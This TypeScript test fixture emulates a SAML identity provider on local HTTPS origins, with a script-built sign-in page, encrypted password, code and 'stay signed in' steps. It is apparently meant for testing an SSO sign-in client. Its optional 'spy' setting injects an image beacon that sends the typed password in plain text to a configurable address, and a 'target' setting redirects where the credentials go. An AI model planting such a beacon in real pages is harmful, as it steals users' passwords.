import { constants, generateKeyPairSync, privateDecrypt, randomUUID } from 'node:crypto';
import { createServer } from 'node:https';
import type { Server } from 'node:https';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { serverCertificate, signingCertificate } from '../../emulator/certificate';
import type { SelfSigned } from '../../emulator/certificate';
import { signedSamlResponse } from '../../emulator/saml/signed-response';
import { readSignOnRequest } from '../../emulator/saml/sign-on-request';
import type { SignOnRequest } from '../../emulator/saml/sign-on-request';

/** What a test may change about the provider's pages. */
export interface ScriptedPages {
  /** Where the page sends what it encrypted, in place of the provider's own address. */
  target?: string;
  /** Whether a code is asked for after the password. */
  code?: string;
  /** Whether the page asks to stay signed in after that. */
  stays?: boolean;
  /** Address of a script that the page loads once the password is typed. */
  spy?: string;
}

/**
 * A provider at two origins whose sign-in page is built by a script: the one takes the SAML request and checks, the
 * other shows the page, encrypts the password in it and sends it over. Nobody signs in there without scripts.
 */
export class ScriptedProvider {
  readonly #user: { readonly name: string; readonly password: string };
  readonly #keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  readonly #tls: SelfSigned;
  readonly #signer: SelfSigned;
  readonly #servers: Server[] = [];
  readonly #visits = new Map<string, SignOnRequest>();
  readonly #good = new Set<string>();
  pages: ScriptedPages = {};
  /** Requests as they came, with what they held. */
  received: { readonly origin: string; readonly path: string; readonly body: string }[] = [];
  attempts = 0;
  origins: readonly [checking: string, showing: string] = ['', ''];

  private constructor(user: ScriptedProvider['user'], tls: SelfSigned, signer: SelfSigned) {
    this.#user = user;
    this.#tls = tls;
    this.#signer = signer;
  }

  get user(): { readonly name: string; readonly password: string } {
    return this.#user;
  }

  get certificatePem(): string {
    return this.#signer.certificatePem;
  }

  get caPem(): string {
    return this.#tls.certificatePem;
  }

  get entryPoint(): string {
    return `${this.origins[0]}/sso`;
  }

  static async start(user: { name: string; password: string }): Promise<ScriptedProvider> {
    const [tls, signer] = await Promise.all([
      serverCertificate('127.0.0.1'),
      signingCertificate('scripted provider'),
    ]);
    const provider = new ScriptedProvider(user, tls, signer);
    const hosts = ['127.0.0.1', 'localhost'];
    const ports = await Promise.all(hosts.map((_, index) => provider.#listen(index)));
    provider.origins = [`https://${hosts[0]}:${ports[0]}`, `https://${hosts[1]}:${ports[1]}`];
    return provider;
  }

  async stop(): Promise<void> {
    await Promise.all(
      this.#servers.map((server) => {
        server.closeAllConnections();
        return new Promise((resolve) => server.close(resolve));
      }),
    );
  }

  reset(): void {
    this.pages = {};
    this.received = [];
    this.attempts = 0;
  }

  #listen(index: number): Promise<number> {
    const server = createServer(
      { key: this.#tls.privateKeyPem, cert: this.#tls.certificatePem },
      (request, response) => void this.#handle(index, request, response),
    );
    this.#servers.push(server);
    return new Promise((resolve) =>
      server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
    );
  }

  async #handle(index: number, request: IncomingMessage, response: ServerResponse): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString('utf8');
    const origin = this.origins[index] ?? '';
    const url = new URL(request.url ?? '/', origin);
    this.received.push({ origin, path: url.pathname, body });
    const [checking, showing] = this.origins;
    const page = (html: string, status = 200): void => {
      response.writeHead(status, { 'content-type': 'text/html; charset=utf-8' }).end(html);
    };
    const cors = {
      'access-control-allow-origin': showing,
      'access-control-allow-headers': 'content-type',
      'access-control-allow-credentials': 'true',
    };
    switch (`${request.method} ${url.pathname}`) {
      case 'GET /sso': {
        const asked = await readSignOnRequest(url.searchParams.get('SAMLRequest') ?? '');
        if (asked === undefined) return page('no request', 400);
        const id = randomUUID();
        this.#visits.set(id, asked);
        response
          .writeHead(302, {
            location: `${showing}/login?visit=${id}`,
            'set-cookie': `visit=${id}; Secure; HttpOnly; SameSite=None; Path=/`,
          })
          .end();
        return;
      }
      case 'GET /login':
        return page(
          `<!doctype html><title>Sign in</title><div id="app">Loading</div><noscript>JavaScript is needed</noscript><script src="/app.js"></script>`,
        );
      case 'GET /app.js':
        response.writeHead(200, { 'content-type': 'text/javascript' }).end(this.#script(checking));
        return;
      case 'OPTIONS /authenticate':
        response.writeHead(204, cors).end();
        return;
      case 'POST /authenticate':
        response.writeHead(200, { 'content-type': 'application/json', ...cors });
        response.end(JSON.stringify(this.#authenticate(body, request.headers.cookie ?? '')));
        return;
      case 'GET /finish':
        return page(this.#finish(request.headers.cookie ?? ''));
      default:
        return page('there is no such page', 404);
    }
  }

  #authenticate(body: string, cookies: string): object {
    const { user, cipher, code } = JSON.parse(body) as { user: string; cipher: string; code?: string };
    if (code !== undefined) {
      if (code !== this.pages.code) return { problem: 'Wrong code' };
    } else {
      this.attempts += 1;
      const { privateKey } = this.#keys;
      const padding = { padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' };
      const password = privateDecrypt(
        { key: privateKey, ...padding },
        Buffer.from(cipher, 'base64'),
      ).toString();
      if (user !== this.#user.name || password !== this.#user.password)
        return { problem: 'User name or password is wrong' };
      if (this.pages.code !== undefined) return { wants: 'code' };
    }
    this.#good.add(visitOf(cookies));
    return this.pages.stays === true ? { wants: 'stay' } : { next: `${this.origins[0]}/finish` };
  }

  #finish(cookies: string): string {
    const visit = visitOf(cookies);
    const asked = this.#visits.get(visit);
    if (asked === undefined || !this.#good.has(visit)) return 'not signed in';
    const issuedAt = Date.now();
    const answer = signedSamlResponse(
      {
        issuer: this.entryPoint,
        nameId: this.#user.name,
        audience: asked.issuer,
        destination: asked.assertionConsumerService,
        inResponseTo: asked.id,
        issuedAt,
        notOnOrAfter: issuedAt + 300_000,
      },
      this.#signer,
    );
    return `<body onload="document.forms[0].submit()"><form method="post" action="${asked.assertionConsumerService}"><input type="hidden" name="SAMLResponse" value="${answer}"></form>`;
  }

  #script(checking: string): string {
    const key = this.#keys.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    return `
      const app = document.getElementById('app');
      const show = (inside, act) => {
        app.innerHTML = '<div class="box">' + inside + '</div>';
        app.querySelector('button').onclick = act;
      };
      const value = (selector) => app.querySelector(selector).value;
      const send = async (content) => {
        const answer = await fetch(${JSON.stringify(this.pages.target ?? `${checking}/authenticate`)}, {
          method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify(content),
        });
        const { problem, next, wants } = await answer.json();
        if (next) location.href = next;
        if (wants === 'code') show('<label>Verification code <input name="otp" autocomplete="one-time-code"></label><button>Verify</button><p role="alert" id="say"></p>', () => send({ code: value('input') }));
        if (wants === 'stay') show('<h1>Stay signed in?</h1><input type="checkbox" id="again"><label for="again">Do not show again</label><button>Yes</button><button>No</button>', () => location.href = '${checking}/finish');
        if (problem) document.getElementById('say').textContent = problem;
      };
      const encrypt = async (text) => {
        const bytes = Uint8Array.from(atob('${key}'), (letter) => letter.charCodeAt(0));
        const key = await crypto.subtle.importKey('spki', bytes, { name: 'RSA-OAEP', hash: 'SHA-256' }, false, ['encrypt']);
        return btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.encrypt('RSA-OAEP', key, new TextEncoder().encode(text)))));
      };
      setTimeout(() => show(
        '<a href="#">Forgot your password?</a><label>User <input id="u" autocomplete="username"></label><label>Password <input id="p" type="password" autocomplete="current-password"></label>' +
        '<button type="button">Sign in</button><button type="button">Sign in with a passkey</button><p role="alert" id="say"></p>',
        async () => {
          ${this.pages.spy === undefined ? '' : `new Image().src = ${JSON.stringify(this.pages.spy)} + '?' + encodeURIComponent(value('#p'));`}
          send({ user: value('#u'), cipher: await encrypt(value('#p')) });
        },
      ), 150);`;
  }
}

function visitOf(cookies: string): string {
  return /(?:^|;\s*)visit=([^;]+)/.exec(cookies)?.[1] ?? '';
}
